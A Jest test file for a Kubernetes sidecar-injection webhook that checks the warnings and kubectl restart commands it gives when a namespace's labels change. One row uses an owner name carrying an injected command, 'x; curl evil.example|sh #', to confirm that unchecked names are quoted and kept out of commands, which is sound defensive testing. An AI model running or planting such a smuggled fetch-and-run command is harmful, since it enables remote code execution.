import { describe, expect, test } from '@jest/globals'
import { withAt, type JsonObject } from '../../../../shared/json.ts'
import { boundWarnings } from '../../../../webhook/admission/warning-lines.ts'
import type { ClusterConfig } from '../../../../webhook/cluster/config.ts'
import type { RunningPods } from '../../../../webhook/cluster/running-pods.ts'
import type { Namespace } from '../../../../webhook/cluster/namespace.ts'
import { lookAtPods } from '../../../../webhook/namespaces/look.ts'
import { fateOf } from '../../../../webhook/namespaces/outlook.ts'
import type { Known } from '../../../../webhook/namespaces/judge.ts'
import { outlookWarnings } from '../../../../webhook/namespaces/warnings.ts'
import { render } from '../../../../webhook/inject/render.ts'
import { clusterConfig } from '../../../support/cluster-config.ts'

const configWith = (more: JsonObject): ClusterConfig =>
  clusterConfig({
    sidecar: { image: 'example.com/sidecar:1' },
    settings: { auth: 'none' },
    floor: { allowAnonymous: true, egressMode: 'observe' },
    ...more,
  })
const config = configWith({})

type Texts = Readonly<Record<string, string>>
const namespaceWith = (labels: Texts, annotations: Texts = {}): Namespace => ({
  name: 'team-a',
  labels,
  annotations,
})
const OUT = namespaceWith({})
const IN = namespaceWith({ 'outrigger.dev/injection': 'enabled' })
const STRICT = namespaceWith({ ...IN.labels, 'outrigger.dev/enforce': 'strict' })
const QUICK = namespaceWith(IN.labels, { 'outrigger.dev/request-timeout': '10s' })

interface PodFields {
  readonly owner?: readonly [kind: string, name: string]
  readonly annotations?: Texts
  readonly spec?: JsonObject
  readonly metadata?: JsonObject
  readonly status?: JsonObject
}

const SERVER = { name: 'server', image: 'example.com/server:1', command: ['server'] }
/** Of a Deployment it is the ReplicaSet that owns. */
const ownedBy = (kind: string, name: string): JsonObject =>
  kind === 'Deployment'
    ? {
        labels: { 'pod-template-hash': 'abc12' },
        ownerReferences: [{ controller: true, kind: 'ReplicaSet', name: `${name}-abc12` }],
      }
    : { ownerReferences: [{ controller: true, kind, name }] }

const podOf = (name: string, fields: PodFields = {}): JsonObject => ({
  metadata: {
    name,
    annotations: fields.annotations ?? {},
    ...(fields.owner ? ownedBy(...fields.owner) : {}),
    ...fields.metadata,
  },
  spec: { containers: [SERVER], securityContext: { runAsUser: 1000 }, ...fields.spec },
  status: { phase: 'Running', ...fields.status },
})

/** As it runs, made while its namespace was so. */
const madeIn = (namespace: Namespace, pod: JsonObject): JsonObject => {
  const outcome = render(pod, namespace, config)
  if (outcome.kind !== 'inject') throw new Error(outcome.kind)
  return outcome.pod
}

type Pods = RunningPods['list']

const podsOf = (...pods: readonly JsonObject[]): Pods =>
  async function* () {
    yield* pods
  }
const never = (): Promise<unknown> => new Promise(() => undefined)

const ANN = { user: 'ann', uid: '7', groups: ['devs'], extra: { scopes: ['a'] } }

const look = (
  [before, after]: readonly [Namespace, Namespace],
  pods: Pods | undefined,
  more: {
    readonly sleep?: () => Promise<unknown>
    readonly now?: () => number
    readonly mayList?: RunningPods['mayList']
  } = {},
): Promise<Known> =>
  lookAtPods(
    { before, after, groups: [] },
    {
      config,
      pods: pods && { list: pods, mayList: more.mayList ?? (() => Promise.resolve(true)) },
      asker: ANN,
      sleep: never,
      now: () => 0,
      ...more,
    },
  )

const told = async (
  change: readonly [Namespace, Namespace],
  ...pods: readonly JsonObject[]
): Promise<readonly string[]> => {
  const known = await look(change, podsOf(...pods))
  if (typeof known === 'string') throw new Error(known)
  return outlookWarnings('team-a', known)
}

const web = podOf('web-abc12-1', { owner: ['Deployment', 'web'] })
const DATABASE = { containers: [{ name: 'db', image: 'example.com/db:1' }] }

interface Row {
  readonly name: string
  readonly change: readonly [Namespace, Namespace]
  readonly pods: readonly JsonObject[]
  readonly told: readonly unknown[]
}

const ROWS: readonly Row[] = [
  { name: 'no pods run', change: [OUT, IN], pods: [], told: [] },
  {
    name: 'pods of workloads, by the commands that make them anew',
    change: [OUT, IN],
    pods: [
      web,
      podOf('web-abc12-2', { owner: ['Deployment', 'web'] }),
      podOf('store-0', { owner: ['StatefulSet', 'store'] }),
      podOf('agent-x', { owner: ['DaemonSet', 'agent'] }),
      podOf('rs-1', { owner: ['ReplicaSet', 'rs'] }),
      podOf('nightly-29401440-x', { owner: ['Job', 'nightly-29401440'] }),
      podOf('once-x', { owner: ['Job', 'once'] }),
      podOf('alone'),
      podOf('theirs-x', { owner: ['Rollout', 'theirs'] }),
    ],
    told: [
      'namespace team-a: 9 running pods stay as they are until they are made anew:',
      'kubectl -n team-a rollout restart deployment/web statefulset/store daemonset/agent',
      'kubectl -n team-a delete pod rs-1',
      'pods of no workload, which nobody makes anew but who made them: alone',
      'they run to their end as they are: cronjob/nightly, job/once',
      'pods of controllers that Kubernetes does not know, theirs to restart: "Rollout/theirs"',
    ],
  },
  {
    name: 'what has ended, is on its way out, opts out by itself or has its sidecar',
    change: [OUT, IN],
    pods: [
      podOf('over', { status: { phase: 'Succeeded' } }),
      podOf('failed', { status: { phase: 'Failed' } }),
      podOf('going', { metadata: { deletionTimestamp: 'now' } }),
      podOf('static', { annotations: { 'kubernetes.io/config.mirror': 'x' } }),
      madeIn(OUT, podOf('asked', { annotations: { 'outrigger.dev/inject': 'true' } })),
    ],
    told: [],
  },
  {
    name: 'what will be denied is no command’s to restart',
    change: [OUT, IN],
    pods: [web, podOf('db-0', { owner: ['StatefulSet', 'db'], spec: DATABASE })],
    told: [
      'namespace team-a: 1 running pod stays as it is until it is made anew:',
      'kubectl -n team-a rollout restart deployment/web',
      expect.stringMatching(
        /^statefulset\/db: its pods will be denied when they are made anew: container db: the pod spec does not say which command/,
      ),
    ],
  },
  {
    name: 'a level that is raised',
    change: [IN, STRICT],
    pods: [madeIn(IN, web)],
    told: [
      expect.stringMatching(
        /^deployment\/web: its pods will be denied when they are made anew: container server: image: .* \(and \d+ more\)$/,
      ),
    ],
  },
  {
    name: 'an annotation that holds from now on',
    change: [IN, QUICK],
    pods: [madeIn(IN, web), madeIn(QUICK, podOf('new-abc12-1', { owner: ['Deployment', 'new'] }))],
    told: [
      'namespace team-a: 1 running pod stays as it is until it is made anew:',
      'kubectl -n team-a rollout restart deployment/web',
    ],
  },
  {
    name: 'a namespace that opts out',
    change: [IN, OUT],
    pods: [
      madeIn(IN, web),
      madeIn(IN, podOf('own', { annotations: { 'outrigger.dev/inject': 'true' } })),
    ],
    told: ['come without a sidecar when they are made anew: deployment/web'],
  },
  {
    name: 'an owner that nobody has checked stands in no command',
    change: [OUT, IN],
    pods: [podOf('evil', { owner: ['StatefulSet', 'x; curl evil.example|sh #'] })],
    told: [
      'namespace team-a: 1 running pod stays as it is until it is made anew:',
      'pods of controllers that Kubernetes does not know, theirs to restart: "StatefulSet/x; curl evil.example|sh #"',
    ],
  },
]

describe('the pods that run', () => {
  test.each(ROWS)('$name', async ({ change, pods, told: expected }) => {
    expect(await told(change, ...pods)).toEqual(expected)
  })

  test('by hundreds: every command is whole, and all of it is within the API server’s bounds', async () => {
    const many = Array.from({ length: 180 }, (_, index) => {
      const name = `${'long-name-'.repeat(5)}${index}`
      return podOf(`${name}-x`, { owner: ['StatefulSet', name] })
    })
    const lines = boundWarnings(await told([OUT, IN], ...many))
    expect(lines.every((line) => line.length <= 256)).toBe(true)
    expect(lines.join('').length).toBeLessThanOrEqual(4096)
    const commands = lines.filter((line) => line.startsWith('kubectl '))
    expect(commands.length).toBeGreaterThan(3)
    for (const line of commands) {
      expect(line).toMatch(/^kubectl -n team-a rollout restart( statefulset\/[-a-z]+-\d+)+$/)
    }
    const named = commands.flatMap((line) => line.split(' ').slice(5)).length
    expect(lines).toContain(`and ${180 - named} more, which this has no room for`)
  })

  test('a name that fits in no line is counted', async () => {
    const name = 'n'.repeat(250)
    expect(await told([OUT, IN], podOf('x', { owner: ['StatefulSet', name] }))).toEqual([
      'namespace team-a: 1 running pod stays as it is until it is made anew:',
      'and 1 more, which this has no room for',
    ])
  })
})

test('a pod that runs is on a node, which its template has not named: no gate minds it', () => {
  const image = `example.com/server@sha256:${'a'.repeat(64)}`
  const resources = { limits: { cpu: '1', memory: '1Gi' } }
  const containers = [{ ...SERVER, image, resources }]
  const pod = madeIn(IN, podOf('web-1', { owner: ['Deployment', 'web'], spec: { containers } }))
  const running = withAt(pod, ['spec', 'nodeName'], 'node-1')
  const gated = configWith({ companions: { gate: true, replicas: false } })
  expect(fateOf(running, { before: IN, after: STRICT }, gated)).toEqual({ kind: 'same' })
})

describe('which pods they are is told', () => {
  const soon = () => new Promise((resolve) => setImmediate(resolve))
  test.each<readonly [string, RunningPods['mayList'], boolean]>([
    ['to whoever may list them', () => Promise.resolve(true), true],
    ['to nobody who may not', () => Promise.resolve(false), false],
    ['to nobody of whom that cannot be asked', () => Promise.reject(new Error('403')), false],
    ['to nobody where there is no answer', () => new Promise(() => undefined), false],
  ])('%s', async (_name, answer, isNamed) => {
    const asked: unknown[] = []
    const mayList: RunningPods['mayList'] = (...args) => {
      asked.push(args)
      return answer(...args)
    }
    const known = await look([OUT, IN], podsOf(web), { mayList, sleep: soon })
    expect(known).toMatchObject({ isNamed, workloads: [{ count: 1 }] })
    expect(asked).toEqual([['team-a', ANN]])
  })
})

describe('what is not known is said', () => {
  test('that nobody can list them', async () => {
    expect(await look([OUT, IN], undefined)).toBe('nobody can list them here')
  })

  test('that they cannot be listed', async () => {
    const failing: Pods = () => {
      throw new Error('the API server answered 403')
    }
    expect(await look([OUT, IN], failing)).toBe('the API server answered 403')
  })

  test('that not all could be listed, with what was found until then', async () => {
    const pods: Pods = async function* () {
      yield web
      throw new Error('one is larger than is read here')
    }
    expect(await look([OUT, IN], pods)).toMatchObject({
      workloads: [{ workload: { kind: 'Deployment', name: 'web' }, count: 1 }],
      cut: 'one is larger than is read here',
    })
  })

  test('and nobody goes on listing for whoever has his answer', async () => {
    let given: AbortSignal | undefined
    const pods: Pods = async function* (_namespace, signal) {
      given = signal
      yield web
      await never()
    }
    const sleep = () => new Promise((resolve) => setImmediate(resolve))
    await look([OUT, IN], pods, { sleep })
    expect(given?.aborted).toBe(true)
  })

  test('that the API server is slow, with what was found until then', async () => {
    const pods: Pods = async function* () {
      yield web
      await never()
    }
    const sleep = () => new Promise((resolve) => setImmediate(resolve))
    expect(await look([OUT, IN], pods, { sleep })).toMatchObject({
      workloads: [{ workload: { kind: 'Deployment', name: 'web' }, count: 1 }],
      cut: 'it takes too long to list them, or other namespaces are listed first; try again',
    })
  })

  test.each([
    ['pods', 2500, 0, 'there are more than 2000'],
    ['workloads', 300, 300, 'there are more than 200 workloads'],
  ])('that there are too many %s', async (_what, count, apart, cut) => {
    let taken = 0
    const pods: Pods = async function* () {
      for (; taken < count; taken += 1) {
        yield podOf(`p-${taken}`, { owner: ['StatefulSet', `s-${apart > 0 ? taken : 0}`] })
      }
    }
    const known = await look([OUT, IN], pods)
    expect(known).toMatchObject({ cut })
    expect(taken).toBeLessThan(count)
    expect(typeof known === 'string' ? [] : outlookWarnings('team-a', known)).toContain(
      `namespace team-a: not all of its running pods were looked at: ${cut}`,
    )
  })

  test('that there was no time to look at each', async () => {
    let ms = 0
    const now = () => (ms += 100)
    const pods = Array.from({ length: 10 }, (_, index) =>
      podOf(`p-${index}`, { owner: ['StatefulSet', `s-${index}`] }),
    )
    const known = await look([OUT, IN], podsOf(...pods), { now })
    if (typeof known === 'string') throw new Error(known)
    expect(known.workloads.filter(({ fate }) => fate.kind === 'sidecar')).toHaveLength(3)
    expect(outlookWarnings('team-a', known).at(-1)).toMatch(
      /^not looked at, for want of time: statefulset\/s-3, /,
    )
  })
})
